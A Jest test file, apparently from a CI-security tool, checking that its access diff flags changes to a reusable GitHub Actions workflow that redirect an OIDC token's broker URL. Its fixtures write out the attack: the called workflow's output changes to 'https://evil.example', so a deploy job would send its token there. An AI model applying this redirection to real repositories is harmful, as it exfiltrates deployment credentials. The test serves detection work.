/**
 * Session 30 (docs/decisions.md "Attacking session 29's changes"): a `needs` output read by a token
 * destination carries the needed jobs' text (session 29), but a needed job that calls a reusable
 * workflow (`setup: { uses: ./.github/workflows/lib.yml }`) has no outputs of its own in the file:
 * they are the called workflow's `on.workflow_call.outputs`, written by its jobs. A pull request that
 * changes only lib.yml's script moved `broker-url: ${{ needs.setup.outputs.v }}` to its author's host
 * and the access diff said "No access changes". Now the called workflow's text joins what such an
 * expression reads (and of a called job further up the `needs` chain).
 */
import { describe, expect, it } from '@jest/globals';
import { diffSnapshots } from '../../shared/diff/diff.js';
import { snapshot } from '../../shared/diff/snapshot.js';
import { failsOnWidened } from '../../shared/diff/states.js';
import { githubFacts } from '../workflow/differential.js';
import { wf } from '../support/repo.js';

const SW = 'stepwarden/stepwarden/actions/run@0123456789abcdef0123456789abcdef01234567';
const GATE = 'stepwarden/stepwarden/actions/enforce@0123456789abcdef0123456789abcdef01234567';

const lib = (v: string) =>
  `on:\n  workflow_call:\n    outputs:\n      v:\n        value: \${{ jobs.inner.outputs.v }}\njobs:\n  inner:\n    runs-on: ubuntu-latest\n    outputs:\n      v: \${{ steps.s.outputs.v }}\n    steps:\n      - id: s\n        run: echo "v=${v}" >> "$GITHUB_OUTPUT"\n`;

/** `deploy` sends its token to `url` and needs `mid`, which needs `setup` (a call of lib.yml) when `deep`. */
const ci = (url: string, deep = false) =>
  `on: push\njobs:\n  setup:\n    uses: ./.github/workflows/lib.yml\n${
    deep
      ? '  mid:\n    needs: setup\n    runs-on: ubuntu-latest\n    outputs:\n      v: ${{ needs.setup.outputs.v }}\n    steps:\n      - run: "true"\n'
      : ''
  }  deploy:\n    needs: ${deep ? 'mid' : 'setup'}\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${SW}\n        with:\n          audience: https://deploy.example\n          run: make deploy\n          broker-url: ${url}\n          oidc-audience: https://broker.corp.example\n`;

const gated = `on: push\njobs:\n  setup:\n    uses: ./.github/workflows/lib.yml\n  release:\n    needs: setup\n    runs-on: ubuntu-latest\n    permissions: { contents: write }\n    steps:\n      - uses: ${GATE}\n        with:\n          manifest-ref: \${{ needs.setup.outputs.v }}\n      - run: make release\n`;

const across = (main: string, a: string, b: string) =>
  diffSnapshots(
    snapshot([wf('ci.yml', main), wf('lib.yml', lib(a))]),
    snapshot([wf('ci.yml', main), wf('lib.yml', lib(b))]),
  );
const sinkRows = (changes: ReturnType<typeof across>) =>
  changes.filter((c) => c.subject.startsWith('OIDC token')).map((c) => c.effect);

describe('a needs output written by a called workflow', () => {
  const URL = '${{ needs.setup.outputs.v }}';
  const DEEP = '${{ needs.mid.outputs.v }}';

  it('GitHub reads every workflow here', () => {
    for (const [f, text] of [
      ['ci.yml', ci(URL)],
      ['ci.yml', ci(DEEP, true)],
      ['ci.yml', gated],
      ['lib.yml', lib('x')],
    ] as const)
      expect([text, githubFacts(f, text).valid]).toEqual([text, true]);
  });

  it('broker-url from the called workflow’s output: its script changing the host is a widened sink row', () => {
    const changes = across(ci(URL), 'https://broker.corp.example', 'https://evil.example');
    expect(sinkRows(changes)).toContain('widened');
    expect(failsOnWidened(changes)).toBe(true);
  });

  it('through a job between (needs of needs)', () => {
    const changes = across(ci(DEEP, true), 'https://broker.corp.example', 'https://evil.example');
    expect(sinkRows(changes)).toContain('widened');
    expect(failsOnWidened(changes)).toBe(true);
  });

  it('manifest-ref from the called workflow’s output: a widened gate row', () => {
    const changes = across(gated, 'main', 'open');
    expect(changes.filter((c) => c.subject === 'actions/enforce gate').map((c) => c.effect)).toEqual([
      'widened',
    ]);
    expect(failsOnWidened(changes)).toBe(true);
  });

  it('no over-reporting: a literal broker-url, lib.yml changing, is no sink row', () => {
    expect(
      sinkRows(across(ci('https://broker.corp.example'), 'https://a.example', 'https://b.example')),
    ).toEqual([]);
  });
});
